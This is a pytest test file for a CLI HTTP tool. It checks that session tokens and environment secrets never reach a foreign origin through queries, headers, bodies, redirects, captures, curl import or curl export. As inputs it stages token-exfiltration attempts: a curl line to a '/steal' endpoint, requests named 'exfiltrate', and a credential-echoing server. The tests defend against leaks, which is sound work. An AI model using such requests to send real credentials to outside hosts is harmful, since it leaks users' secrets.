"""Secrets are bound to their profile's origins (issue 11, "a collection can send your token
anywhere").

Two hostile loopback servers the test starts, on two ports (two origins): HOME is the
profile's API, FOREIGN is not. A collection's secret variables (the session's token, an
env reference) must never arrive at FOREIGN: not in the query, a custom header, a JSON or
form body, nor after a redirect. Asserted on what the servers received.
"""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from workbench.cli import main

TOKEN = "home-session-token-7f3a9c2e51"
ENV_SECRET = "env-secret-value-4b8d2f6a"


@dataclass
class Seen:
    method: str
    target: str
    headers: dict[str, str]
    body: bytes


@dataclass
class Recorder:
    """A loopback HTTP server that records every request; `redirects` maps a path to
    (status, Location)."""

    server: ThreadingHTTPServer
    seen: list[Seen] = field(default_factory=list)
    redirects: dict[str, tuple[int, str]] = field(default_factory=dict)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server.server_address[1]}"

    def received(self) -> str:
        """Everything this server was sent, as one text (to search for a secret)."""
        return "\n".join(
            f"{s.method} {s.target}\n"
            + "\n".join(f"{k}: {v}" for k, v in s.headers.items())
            + "\n"
            + s.body.decode("utf-8", "replace")
            for s in self.seen
        )


def _start() -> Recorder:
    rec: Recorder

    class Handler(BaseHTTPRequestHandler):
        def _any(self) -> None:
            length = int(self.headers.get("Content-Length") or 0)
            body = self.rfile.read(length) if length else b""
            rec.seen.append(Seen(self.command, self.path, dict(self.headers.items()), body))
            path = self.path.split("?", 1)[0]
            if path in rec.redirects:
                status, location = rec.redirects[path]
                self.send_response(status)
                self.send_header("Location", location)
                self.send_header("Content-Length", "0")
                self.end_headers()
                return
            payload = b'{"ok": true}'
            if path == "/echo":  # a hostile server that echoes credentials back
                payload = json.dumps(
                    {"auth": self.headers.get("Authorization"), "key": self.headers.get("X-Key")}
                ).encode()
            self.send_response(200)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(payload)))
            self.end_headers()
            self.wfile.write(payload)

        do_GET = do_POST = do_PUT = do_PATCH = do_DELETE = _any

        def log_message(self, *args: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    rec = Recorder(server)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return rec


@pytest.fixture
def servers() -> Iterator[tuple[Recorder, Recorder]]:
    home, foreign = _start(), _start()
    yield home, foreign
    for r in (home, foreign):
        r.server.shutdown()
        r.server.server_close()


@pytest.fixture
def setup(servers, tmp_path, monkeypatch) -> tuple[Recorder, Recorder, Path]:
    """A profile `home` (static token from the environment) whose only origin is HOME."""
    home, _ = servers
    profiles = tmp_path / "profiles"
    profiles.mkdir()
    (profiles / "home.toml").write_text(
        f"""version = 1
platform = "generic"
[urls]
api = "{home.url}"
[auth]
flow = "static_token"
token = {{ env = "HOME_TOKEN" }}
"""
    )
    monkeypatch.setenv("HOME_TOKEN", TOKEN)
    monkeypatch.setenv("MY_SECRET", ENV_SECRET)
    return *servers, profiles


def _collection(tmp_path: Path, request: str) -> Path:
    path = tmp_path / "c.toml"
    path.write_text(
        f"""version = 1
[collection]
name = "pr"
profile = "home"

[variables]
tok = {{ session = "access_token" }}
pw = {{ env = "MY_SECRET" }}
plain = "not-a-secret"

[[requests]]
{request}
"""
    )
    return path


def _run(tmp_path: Path, profiles: Path, request: str, *extra: str) -> int:
    return main(["run", str(_collection(tmp_path, request)), "--profiles", str(profiles), *extra])


@pytest.mark.parametrize(
    ("what", "request_toml", "variable"),
    [
        (
            "query",
            'name = "q"\nurl = "FOREIGN/collect"\nquery = [["t", "{{tok}}"]]',
            "tok",
        ),
        (
            "custom header",
            'name = "h"\nurl = "FOREIGN/collect"\nheaders = [["X-Leak", "Token {{tok}}"]]',
            "tok",
        ),
        (
            "json body",
            'name = "b"\nmethod = "POST"\nurl = "FOREIGN/collect"\n'
            'body = { json = \'{"t": "{{tok}}"}\' }',
            "tok",
        ),
        (
            "form body",
            'name = "f"\nmethod = "POST"\nurl = "FOREIGN/collect"\nbody = { form = { t = "{{tok}}" } }',
            "tok",
        ),
        (
            "url path",
            'name = "p"\nurl = "FOREIGN/u/{{tok}}"',
            "tok",
        ),
        (
            "env secret in the query",
            'name = "e"\nurl = "FOREIGN/collect"\nquery = [["k", "{{pw}}"]]',
            "pw",
        ),
    ],
)
def test_secret_is_refused_for_a_foreign_origin(
    setup, tmp_path, capsys, what, request_toml, variable
) -> None:
    home, foreign, profiles = setup
    code = _run(tmp_path, profiles, request_toml.replace("FOREIGN", foreign.url))
    _, err = capsys.readouterr()
    assert code == 2, err
    assert foreign.seen == [], f"{what}: the foreign server was contacted"
    assert TOKEN not in foreign.received() and ENV_SECRET not in foreign.received()
    # the words name the variable and the host
    assert f"'{variable}'" in err and f"127.0.0.1:{foreign.server.server_address[1]}" in err
    assert "Traceback" not in err and TOKEN not in err and ENV_SECRET not in err


def test_secret_goes_to_the_profiles_own_origin(setup, tmp_path, capsys) -> None:
    home, foreign, profiles = setup
    request = (
        'name = "own"\nmethod = "POST"\nurl = "/collect"\nquery = [["t", "{{tok}}"]]\n'
        'headers = [["X-Key", "{{pw}}"]]\nbody = { json = \'{"t": "{{tok}}"}\' }'
    )
    code = _run(tmp_path, profiles, request)
    _, err = capsys.readouterr()
    assert code == 0, err
    assert TOKEN in home.received() and ENV_SECRET in home.received()
    assert foreign.seen == []


def test_plain_variables_may_go_anywhere(setup, tmp_path, capsys) -> None:
    home, foreign, profiles = setup
    code = _run(
        tmp_path, profiles, f'name = "x"\nurl = "{foreign.url}/x"\nquery = [["p", "{{{{plain}}}}"]]'
    )
    assert code == 0, capsys.readouterr().err
    assert len(foreign.seen) == 1 and "not-a-secret" in foreign.seen[0].target
    assert TOKEN not in foreign.received()


def test_var_override_is_not_a_secret(setup, tmp_path, capsys) -> None:
    """`--var tok=...` is the user's own literal, not the session's token."""
    home, foreign, profiles = setup
    code = _run(
        tmp_path,
        profiles,
        f'name = "x"\nurl = "{foreign.url}/x"\nquery = [["t", "{{{{tok}}}}"]]',
        "--var",
        "tok=literal-value",
    )
    assert code == 0, capsys.readouterr().err
    assert "literal-value" in foreign.received() and TOKEN not in foreign.received()


def test_cross_origin_redirect_drops_secret_headers_and_query(setup, tmp_path, capsys) -> None:
    home, foreign, profiles = setup
    # HOME echoes the token back into the Location's query, as a hostile server might
    home.redirects["/hop"] = (302, f"{foreign.url}/landing?echo={TOKEN}&keep=1")
    request = (
        'name = "hop"\nurl = "/hop"\nquery = [["t", "{{tok}}"]]\n'
        'headers = [["X-Leak", "{{tok}}"], ["X-Env", "{{pw}}"], ["Accept", "application/json"]]'
    )
    code = _run(tmp_path, profiles, request)
    _, err = capsys.readouterr()
    assert code == 0, err
    assert TOKEN in home.received()  # the profile's own origin got it
    assert len(foreign.seen) == 1, "the redirect was followed"
    landing = foreign.seen[0]
    assert landing.target.startswith("/landing") and "keep=1" in landing.target
    assert TOKEN not in foreign.received() and ENV_SECRET not in foreign.received()
    assert "X-Leak" not in landing.headers and "X-Env" not in landing.headers
    assert landing.headers.get("Accept") == "application/json"


def test_cross_origin_redirect_that_resends_a_secret_body_is_refused(
    setup, tmp_path, capsys
) -> None:
    home, foreign, profiles = setup
    home.redirects["/hop"] = (307, f"{foreign.url}/landing")
    request = 'name = "hop"\nmethod = "POST"\nurl = "/hop"\nbody = { form = { pw = "{{pw}}" } }'
    code = _run(tmp_path, profiles, request)
    _, err = capsys.readouterr()
    assert code == 2, err
    assert ENV_SECRET in home.received()
    assert foreign.seen == []
    assert "'pw'" in err and "Traceback" not in err


def test_cross_origin_redirect_with_the_token_in_its_path_is_refused(
    setup, tmp_path, capsys
) -> None:
    home, foreign, profiles = setup
    home.redirects["/hop"] = (302, f"{foreign.url}/u/{TOKEN}/x")
    code = _run(tmp_path, profiles, 'name = "hop"\nurl = "/hop"\nheaders = [["X-Key", "{{tok}}"]]')
    _, err = capsys.readouterr()
    assert code == 2, err
    assert foreign.seen == [] and TOKEN not in err


def test_same_origin_redirect_keeps_the_secret_header(setup, tmp_path, capsys) -> None:
    home, foreign, profiles = setup
    home.redirects["/hop"] = (302, f"{home.url}/there")
    code = _run(tmp_path, profiles, 'name = "hop"\nurl = "/hop"\nheaders = [["X-Key", "{{pw}}"]]')
    assert code == 0, capsys.readouterr().err
    there = [s for s in home.seen if s.target.startswith("/there")]
    assert there and there[0].headers.get("X-Key") == ENV_SECRET


def test_collection_without_a_profile_sends_no_secret(setup, tmp_path, capsys) -> None:
    home, foreign, profiles = setup
    path = tmp_path / "noprofile.toml"
    path.write_text(
        f"""version = 1
[variables]
pw = {{ env = "MY_SECRET" }}

[[requests]]
name = "x"
url = "{foreign.url}/x"
headers = [["X-Key", "{{{{pw}}}}"]]
"""
    )
    code = main(["run", str(path), "--profiles", str(profiles)])
    _, err = capsys.readouterr()
    assert code == 2, err
    assert foreign.seen == [] and "'pw'" in err


def test_imported_curl_token_is_bound_when_replayed(setup, tmp_path, capsys) -> None:
    """A curl command from a pull request with a token for a foreign host: the import turns
    the token into a session reference, and replaying it never sends the session's token
    there."""
    home, foreign, profiles = setup
    jwt = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJ4In0.c2lnbmF0dXJlLXZhbHVl"
    coll = tmp_path / "imported.toml"
    curl = f"curl -H 'X-Auth-Token: {jwt}' '{foreign.url}/steal'"
    assert main(["import", "curl", "--into", str(coll), "--name", "steal", curl]) == 0
    capsys.readouterr()
    assert jwt not in coll.read_text()
    code = main(["run", str(coll), "--profile", "home", "--profiles", str(profiles)])
    _, err = capsys.readouterr()
    assert code == 2, err
    assert foreign.seen == []


def test_export_with_secrets_refuses_a_foreign_url(setup, tmp_path, capsys) -> None:
    home, foreign, profiles = setup
    assert main(["login", "home", "--profiles", str(profiles)]) == 0
    capsys.readouterr()
    path = _collection(
        tmp_path, f'name = "x"\nurl = "{foreign.url}/x"\nheaders = [["X-Leak", "{{{{tok}}}}"]]'
    )
    code = main(["export", "curl", str(path), "x", "--with-secrets", "--profiles", str(profiles)])
    out, err = capsys.readouterr()
    assert code == 2, err
    assert TOKEN not in out and TOKEN not in err
    assert "'tok'" in err
    # to its own origin the export writes the real token (that is what --with-secrets is for)
    own = _collection(tmp_path, 'name = "y"\nurl = "/y"\nheaders = [["X-Leak", "{{tok}}"]]')
    assert (
        main(["export", "curl", str(own), "y", "--with-secrets", "--profiles", str(profiles)]) == 0
    )
    assert TOKEN in capsys.readouterr().out


def test_a_captured_token_is_refused_for_a_foreign_origin(setup, tmp_path, capsys) -> None:
    """HOME echoes the Authorization header the session signed it with; a capture copies
    the token into a variable, and the next request would carry it to FOREIGN: refused,
    by value."""
    home, foreign, profiles = setup
    request = f"""name = "echo"
url = "/echo"
[requests.capture]
leaked = "$.auth"

[[requests]]
name = "exfiltrate"
url = "{foreign.url}/collect"
query = [["x", "{{{{leaked}}}}"]]
"""
    code = _run(tmp_path, profiles, request)
    _, err = capsys.readouterr()
    assert code == 2, err
    assert f"Bearer {TOKEN}" in home.received()
    assert foreign.seen == []
    assert "access token" in err and "Traceback" not in err and TOKEN not in err


def test_a_captured_env_secret_is_refused_for_a_foreign_origin(setup, tmp_path, capsys) -> None:
    home, foreign, profiles = setup
    request = f"""name = "echo"
url = "/echo"
headers = [["X-Key", "{{{{pw}}}}"]]
[requests.capture]
leaked = "$.key"

[[requests]]
name = "exfiltrate"
method = "POST"
url = "{foreign.url}/collect"
body = {{ text = "{{{{leaked}}}}" }}
"""
    code = _run(tmp_path, profiles, request)
    _, err = capsys.readouterr()
    assert code == 2, err
    assert ENV_SECRET in home.received() and foreign.seen == []
    assert "'pw'" in err and ENV_SECRET not in err


def test_a_secret_in_the_host_name_is_refused_without_showing_it(setup, tmp_path, capsys) -> None:
    home, foreign, profiles = setup
    port = foreign.server.server_address[1]
    code = _run(tmp_path, profiles, f'name = "dns"\nurl = "http://{{{{tok}}}}.localhost:{port}/"')
    _, err = capsys.readouterr()
    assert code == 2, err
    assert "'tok'" in err and TOKEN not in err and "Traceback" not in err
    assert foreign.seen == []


def test_a_secret_with_an_invalid_url_is_refused_in_words(setup, tmp_path, capsys) -> None:
    home, foreign, profiles = setup
    code = _run(
        tmp_path,
        profiles,
        'name = "bad"\nurl = "http://127.0.0.1:99999/x"\nquery = [["t", "{{tok}}"]]',
    )
    _, err = capsys.readouterr()
    assert code == 2, err
    assert "'tok'" in err and "Traceback" not in err and TOKEN not in err
